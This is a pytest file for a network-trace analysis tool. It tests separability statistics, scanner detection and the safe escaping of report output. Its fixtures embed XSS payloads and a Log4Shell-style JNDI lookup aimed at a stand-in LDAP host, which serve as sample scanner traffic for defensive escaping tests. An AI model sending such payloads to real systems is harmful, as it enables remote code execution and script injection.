"""Separability: the statistics against their definitions, which comparisons are made, safe
Markdown, and the bundled comparison."""

from __future__ import annotations

import itertools
import re

import numpy as np
import pandas as pd
import pyarrow.parquet as pq
import pytest
import yaml
from conftest import bundled_results, edited, planned_jobs
from packet_factory import handshake, packet_table, portless, tcp
from scipy import stats

from tracelab.compare.security import (
    compare_security,
    comparisons,
    separability_table,
    two_sample,
)
from tracelab.core.html import SCRIPT_ELEMENT
from tracelab.security.connections import write_connections
from tracelab.security.hosts import write_hosts
from tracelab.security.windows import FEATURES, write_windows

PNG_MAGIC = b"\x89PNG\r\n\x1a\n"
SECURITY_TARGETS = ("results/compare/features.csv", "results/compare/scan_report.md")


def brute_force_auc(a, b) -> float:
    pairs = list(itertools.product(a, b))
    return sum((y > x) + 0.5 * (y == x) for x, y in pairs) / len(pairs)


def test_two_sample_statistics_match_their_definitions():
    rng = np.random.default_rng(7)
    a, b = rng.normal(0, 1, 40), rng.normal(0.7, 1, 25).round(1)
    result = two_sample(a, b)
    assert result["roc_auc"] == pytest.approx(brute_force_auc(a, b))
    assert result["separation"] == pytest.approx(max(result["roc_auc"], 1 - result["roc_auc"]))
    ecdf_gap = max(abs((a <= x).mean() - (b <= x).mean()) for x in np.concatenate([a, b]))
    assert result["ks_statistic"] == pytest.approx(ecdf_gap)
    assert result["ks_pvalue"] == pytest.approx(stats.ks_2samp(a, b).pvalue)


def test_two_sample_extremes_and_missing_values():
    apart = two_sample(np.array([1.0, 2.0]), np.array([5.0, 6.0, np.nan]))
    assert (apart["ks_statistic"], apart["roc_auc"]) == (1.0, 1.0)
    reversed_ = two_sample(np.array([5.0, 6.0]), np.array([1.0, 2.0]))
    assert (reversed_["roc_auc"], reversed_["separation"]) == (0.0, 1.0)
    same = two_sample(np.array([3.0, 3.0]), np.array([3.0]))
    assert (same["ks_statistic"], same["roc_auc"]) == (0.0, 0.5)
    assert np.isnan(two_sample(np.array([np.nan]), np.array([1.0]))["roc_auc"])


def windows_of(groups: dict[tuple[str, str], list[float]]) -> pd.DataFrame:
    return pd.DataFrame([{"trace": trace, "label": label, "f": v}
                         for (trace, label), values in groups.items() for v in values])


@pytest.mark.parametrize("groups, expected", [
    ({("t1", "scan"): [1], ("t2", "normal"): [2]}, [("label", "normal", "scan")]),
    ({("t1", "x"): [1], ("t2", "x"): [2], ("t3", "x"): [3]},
     [("trace", "t1", "t2"), ("trace", "t1", "t3"), ("trace", "t2", "t3")]),
    ({("t1", "scan"): [1], ("t2", "normal"): [2], ("t3", "normal"): [3]},
     [("label", "normal", "scan"), ("trace", "t1", "t2"), ("trace", "t1", "t3"),
      ("trace", "t2", "t3")]),
])
def test_comparisons_by_label_and_by_trace(groups, expected):
    assert comparisons(windows_of(groups)) == expected


def test_table_is_sorted_by_separability_with_the_class_beside_the_score():
    windows = pd.DataFrame({"trace": ["a"] * 4 + ["b"] * 4, "label": ["a"] * 4 + ["b"] * 4,
                            "weak": [1, 2, 3, 4, 2, 3, 4, 5], "strong": [1, 2, 3, 4, 9, 9, 9, 9],
                            "none": [1, 2, 3, 4, 1, 2, 3, 4]})
    features = pd.DataFrame([
        {"name": "weak", "unit": "u", "robustness": "behavioural", "reason": "r",
         "description": "d"},
        {"name": "none", "unit": "u", "robustness": "artefact", "reason": "r",
         "description": "d"},
        {"name": "strong", "unit": "u", "robustness": "artefact", "reason": "r",
         "description": "d"}])
    table = separability_table(windows, features)
    assert table["feature"].tolist() == ["strong", "weak", "none"]
    assert table["rank"].tolist() == [1, 2, 3]
    assert table["robustness"].tolist() == ["artefact", "behavioural", "artefact"]
    assert table["ks_statistic"].tolist() == pytest.approx([1.0, 0.25, 0.0])


HOSTILE_SOURCE = "<script>alert(1)</script>"
HOSTILE_URI = "/x|y?q=${jndi:ldap://cb.example:1389/<img src=x onerror=alert(1)>}"
HOSTILE_LABEL = "<b>scan</b>|$x$"


def scan_or_quiet(scanner: bool) -> list[dict]:
    """30 unanswered probes and a JNDI request, or one quiet request."""
    rows = []
    if scanner:
        rows += [tcp(i * 0.5, HOSTILE_SOURCE, 30000 + i, f"10.1.0.{i + 1}", 8080, "S")
                 for i in range(30)]
    rows += handshake(1.0, "10.0.0.1", 40000, "10.0.0.2", 80)
    rows += [portless(1.1, "10.0.0.1", "10.0.0.2", "HTTP", payload=90, http_method="GET",
                      http_uri=HOSTILE_URI if scanner else "/index.html"),
             tcp(1.2, "10.0.0.2", 80, "10.0.0.1", 40000, "A", seq=1, ack=91),
             tcp(25.0, "10.0.0.1", 40000, "10.0.0.2", 80, "FA", seq=91, ack=1)]
    return rows


def run_stages(tmp_path, name, rows) -> dict:
    """One hand-made trace through the per-trace security stages."""
    packets = tmp_path / f"{name}.packets.parquet"
    pq.write_table(packet_table(rows), packets)
    paths = {kind: tmp_path / f"{name}.{kind}.parquet"
             for kind in ("flows", "http", "hosts", "windows")}
    write_connections(trace=name, packets_path=packets, flows_path=paths["flows"],
                      http_path=paths["http"], conn_log_path=tmp_path / f"{name}.conn.log",
                      settings={})
    write_hosts(trace=name, flows_path=paths["flows"], hosts_path=paths["hosts"], settings={})
    write_windows(trace=name, packets_path=packets, flows_path=paths["flows"],
                  http_path=paths["http"], windows_path=paths["windows"], settings={})
    return paths


def compare(tmp_path, traces: dict[str, list[dict]], labels: dict[str, str]) -> dict:
    paths = [run_stages(tmp_path, name, rows) for name, rows in traces.items()]
    out = tmp_path / "compare"
    outputs = {"features_csv": out / "features.csv", "features_md": out / "features.md",
               "separability_png": out / "separability.png", "fanout_png": out / "fanout.png",
               "conn_states_png": out / "conn_states.png",
               "scan_report_md": out / "scan_report.md", "features_html": out / "features.html",
               "scan_report_html": out / "scan_report.html"}
    compare_security(traces=list(traces), labels=labels,
                     **{f"{kind}_paths": [p[kind] for p in paths]
                        for kind in ("windows", "hosts", "flows", "http")}, **outputs)
    return outputs


@pytest.fixture
def hostile_comparison(tmp_path):
    return compare(tmp_path, {"scan_trace": scan_or_quiet(True),
                              "quiet_trace": scan_or_quiet(False)},
                   {"scan_trace": HOSTILE_LABEL, "quiet_trace": "normal"})


def test_strings_from_traces_and_config_show_as_text(hostile_comparison):
    report = hostile_comparison["scan_report_md"].read_text()
    features = hostile_comparison["features_md"].read_text()
    for text in (report, features, hostile_comparison["scan_report_html"].read_text(),
                 hostile_comparison["features_html"].read_text()):
        assert "<script" not in text.replace(SCRIPT_ELEMENT, "")  # but the page's own
        assert "<b>" not in text and "<img" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in report
    assert "&lt;img src=x onerror=alert(1)&gt;" in report
    assert "/x\\|y" in report
    assert "&lt;b&gt;scan&lt;/b&gt;\\|" in features
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in hostile_comparison["scan_report_html"] \
        .read_text()
    for row in report.splitlines():
        if row.startswith("| &lt;script"):
            assert row.count(" | ") == 4  # five cells: no pipe from the trace split a cell


def test_small_comparison_flags_the_scanner_and_writes_every_output(hostile_comparison):
    report = hostile_comparison["scan_report_md"].read_text()
    assert "address\\_scan,trw" in report and "No source flagged" in report
    for key in ("separability_png", "fanout_png", "conn_states_png"):
        assert hostile_comparison[key].read_bytes().startswith(PNG_MAGIC)
    table = pd.read_csv(hostile_comparison["features_csv"])
    assert set(table["feature"]) == set(FEATURES)


def test_traces_without_connections_still_get_every_output(tmp_path):
    icmp = [portless(0, "10.0.0.1", "10.0.0.2", "ICMP"), portless(1, "10.0.0.2", "10.0.0.1",
                                                                     "ICMP")]
    outputs = compare(tmp_path, {"a": icmp, "b": icmp[:1]}, {"a": "x", "b": "y"})
    assert outputs["scan_report_md"].read_text().count("No source flagged (0 sources") == 2
    for key in ("separability_png", "fanout_png", "conn_states_png"):
        assert outputs[key].read_bytes().startswith(PNG_MAGIC)


def test_one_trace_gets_every_output_and_says_there_is_nothing_to_compare(tmp_path):
    outputs = compare(tmp_path, {"only": scan_or_quiet(True)}, {"only": "scan"})
    assert "No comparison: the trace sheet lists one trace" in \
        outputs["features_md"].read_text()
    assert pd.read_csv(outputs["features_csv"]).columns[:3].tolist() == \
        ["comparison", "group_a", "group_b"]
    assert "address\\_scan,trw" in outputs["scan_report_md"].read_text()
    for key in ("separability_png", "fanout_png", "conn_states_png"):
        assert outputs[key].read_bytes().startswith(PNG_MAGIC)


def test_bundled_comparison_shows_that_an_artefact_separates_perfectly():
    compare = bundled_results() / "compare"
    table = pd.read_csv(compare / "features.csv")
    labels = table[table["comparison"] == "label"]
    assert set(labels["feature"]) == set(FEATURES)
    assert labels["ks_statistic"].is_monotonic_decreasing
    perfect = labels[labels["ks_statistic"] == 1.0]
    assert {"behavioural", "artefact"} <= set(perfect["robustness"])
    assert "capture_packets" in set(perfect["feature"])
    markdown = (compare / "features.md").read_text()
    assert "Perfect and still bad" in markdown and "capture\\_packets" in markdown
    for name in ("separability.png", "fanout.png", "conn_states.png"):
        assert (compare / name).read_bytes().startswith(PNG_MAGIC)


def test_bundled_scan_report_names_the_scanner_and_its_evidence():
    report = (bundled_results() / "compare/scan_report.md").read_text()
    parts = re.split(r"^## (\S+) \(", report, flags=re.MULTILINE)
    sections = dict(zip(parts[1::2], parts[2::2]))
    log4j, browsing = sections["log4j\\_scan"], sections["web\\_browsing"]
    assert "198.18.0.2 | address\\_scan,trw" in log4j
    assert "TRW: scanner after" in log4j and "198.18.0.2:1389" in log4j
    assert "No source flagged" in browsing


def planned(workdir) -> dict[str, int]:
    """Jobs per rule a dry run of the security targets would run."""
    return planned_jobs(workdir, *SECURITY_TARGETS)


def edit_and_plan(workdir, relative_path: str, edit) -> dict[str, int]:
    """The dry run's jobs with one file of the workflow edited (restored afterwards)."""
    with edited(workdir / relative_path, lambda data: edit(data.decode()).encode()):
        return planned(workdir)


def test_a_threshold_or_a_new_feature_reruns_only_that_stage_and_the_comparison():
    workdir = bundled_results().parent
    assert planned(workdir) == {}

    def threshold(text):
        data = yaml.safe_load(text)
        data["security"]["scan"]["trw"]["theta1"] = 0.25
        return yaml.safe_dump(data)

    def window_length(text):
        data = yaml.safe_load(text)
        data["security"]["windows"]["window_s"] = 5
        return yaml.safe_dump(data)

    def new_feature(text):
        return text + (
            "\n\n@feature(\"fin_share\", unit=\"share of TCP packets\", robustness=BEHAVIOURAL,\n"
            "         description=\"TCP packets with FIN.\", reason=\"Orderly closes.\")\n"
            "def fin_share(w):\n"
            "    flags = w.packets[\"tcp_flags\"].fillna(0).astype(np.int64)\n"
            "    return w.share(w.packets, (flags & 0x01) != 0)\n")

    config = "config/config.yaml"
    traces = len(pd.read_csv(workdir / "config/traces.tsv", sep="\t"))
    assert edit_and_plan(workdir, config, threshold) == {"security_hosts": traces,
                                                          "compare_traces": 1}
    assert edit_and_plan(workdir, config, window_length) == {"security_windows": traces,
                                                             "compare_traces": 1}
    windows_module = "workflow/tracelab/security/windows.py"
    assert edit_and_plan(workdir, windows_module, new_feature) == {
        "security_windows": traces, "compare_traces": 1}
    assert planned(workdir) == {}


def test_same_traffic_recorded_two_ways_is_told_apart_only_by_artefacts():
    """log4j_scan (CSV export) and log4j_scan_pcap (the capture) hold the same packets: a
    feature that separates them perfectly describes the recording, not the behaviour."""
    table = pd.read_csv(bundled_results() / "compare/features.csv")
    pair = table["group_a"] + "|" + table["group_b"]
    twins = table[(table["comparison"] == "trace") & pair.isin(
        ["log4j_scan|log4j_scan_pcap", "log4j_scan_pcap|log4j_scan"])]
    assert len(twins) == len(FEATURES)
    perfect = twins[twins["ks_statistic"] == 1.0]
    assert len(perfect) > 0 and set(perfect["robustness"]) == {"artefact"}
